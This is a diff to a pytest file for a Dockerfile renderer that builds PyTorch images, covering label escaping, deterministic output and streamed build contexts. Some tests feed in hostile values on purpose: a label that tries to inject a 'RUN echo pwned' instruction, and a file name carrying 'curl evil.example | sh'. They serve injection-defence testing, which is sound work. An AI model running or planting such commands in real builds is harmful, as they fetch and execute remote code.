@@ -23,16 +23,16 @@ def spec():
 
 def test_every_shipped_and_test_entry_matches_its_checked_in_dockerfile() -> None:
     loaded = [load_matrix(ROOT / name, use_environment=False) for name in ("images.yaml", "tests/fixtures/images.yaml")]
-    stale = render.sync_generated([([*m.images, *m.deprecated], m.wheel_port) for m in loaded], check=True, prune=True)
+    stale = render.sync_generated([[*m.images, *m.deprecated] for m in loaded], check=True, prune=True)
     assert stale == [], "run `invoke render`"
 
 
 def test_same_spec_gives_identical_bytes(spec) -> None:
-    assert render.render_dockerfile(spec, wheel_port=8731) == render.render_dockerfile(spec, wheel_port=8731)
+    assert render.render_dockerfile(spec) == render.render_dockerfile(spec)
 
 
 def test_labels_come_last_and_sorted(spec) -> None:
-    text = render.render_dockerfile(spec, wheel_port=8731)
+    text = render.render_dockerfile(spec)
     instructions = [line.split()[0] for line in text.splitlines() if line and not line[0].isspace() and not line.startswith("#")]
     assert instructions[0] == "FROM" and instructions[-1] == "LABEL"
     keys = [line.split("=")[0].strip().removeprefix("LABEL ").strip() for line in text[text.rindex("LABEL ") :].splitlines()]
@@ -54,7 +54,7 @@ def test_a_line_break_cannot_smuggle_an_instruction() -> None:
 
 def test_a_hostile_value_stays_inside_its_label(spec) -> None:
     hostile = replace(spec, os='x" RUN echo pwned "$(id)')
-    text = render.render_dockerfile(hostile, wheel_port=8731)
+    text = render.render_dockerfile(hostile)
     label_line = next(line for line in text.splitlines() if "org.torch-images.os=" in line)
     assert label_line.strip().startswith('org.torch-images.os="x\\" RUN echo pwned \\"\\$(id)"')
 
@@ -63,7 +63,7 @@ def test_missing_template_variables_are_errors(tmp_path: Path, monkeypatch: pyte
     (tmp_path / "Dockerfile.j2").write_text("FROM {{ spec.base_image }}\nRUN {{ not_given }}\n")
     monkeypatch.setattr(render, "TEMPLATES", tmp_path)
     with pytest.raises(render.RenderError, match="not_given"):
-        render.render_dockerfile(spec, wheel_port=8731)
+        render.render_dockerfile(spec)
     assert jinja2.StrictUndefined  # the environment is strict by construction
 
 
@@ -87,6 +87,32 @@ def test_the_dockerfile_does_not_depend_on_the_config_files_name_or_place(tmp_pa
     hostile = tmp_path / "x\nRUN curl evil.example | sh\n#.yaml"
     hostile.write_text(fixture.read_text())
     for theirs, ours in zip(load_matrix(hostile).images, load_matrix(fixture).images, strict=True):
-        text = render_dockerfile(theirs, wheel_port=8731)
+        text = render_dockerfile(theirs)
         assert not any(line.startswith("RUN curl") for line in text.splitlines())
-        assert text == render_dockerfile(ours, wheel_port=8731)
+        assert text == render_dockerfile(ours)
+
+
+def test_the_context_streams_wheels_from_disk_with_normalised_metadata(tmp_path: Path) -> None:
+    wheel = tmp_path / "torch-2.13.0-cp311-cp311-manylinux_2_28_x86_64.whl"
+    wheel.write_bytes(bytes(range(256)) * 5000)  # not a multiple of the tar block
+    empty = tmp_path / "empty-0.0-py3-none-any.whl"
+    empty.write_bytes(b"")
+    chunks = list(render.context_stream({"Dockerfile": b"FROM x\n"}, wheels={wheel.name: wheel, empty.name: empty}, chunk=4096))
+    assert max(len(chunk) for chunk in chunks) <= 4096 + 2048  # read a chunk at a time, never whole
+    with tarfile.open(fileobj=io.BytesIO(b"".join(chunks))) as tar:
+        members = {m.name: m for m in tar.getmembers()}
+        assert list(members) == ["Dockerfile", "wheels", f"wheels/{empty.name}", f"wheels/{wheel.name}"]
+        assert all((m.mtime, m.uid, m.gid, m.uname) == (0, 0, 0, "") for m in members.values())
+        assert members["wheels"].isdir() and members[f"wheels/{wheel.name}"].mode == 0o644
+        assert tar.extractfile(f"wheels/{wheel.name}").read() == wheel.read_bytes()  # type: ignore[union-attr]
+    assert render.context_tar({"Dockerfile": b"FROM x\n"}) == b"".join(render.context_stream({"Dockerfile": b"FROM x\n"}))
+
+
+def test_the_runtime_and_devel_images_render_the_same_venv_stage() -> None:
+    """The engine's cache gives the second the first's stage only when both stages are the same text."""
+    matrix = load_matrix(ROOT / "tests" / "fixtures" / "images.yaml")
+    cuda = {s.flavour: s for s in matrix.images if s.cuda}
+    stage = {flavour: render.render_dockerfile(spec).split("# Stage 2")[0].split("\n", 1)[1] for flavour, spec in cuda.items()}
+    assert stage["runtime"] == stage["devel"]
+    assert f"FROM {cuda['devel'].venv_base_image} AS venv" in stage["devel"] and "-base-" in cuda["devel"].venv_base_image
+    assert f"FROM {cuda['devel'].base_image}\n" in render.render_dockerfile(cuda["devel"])
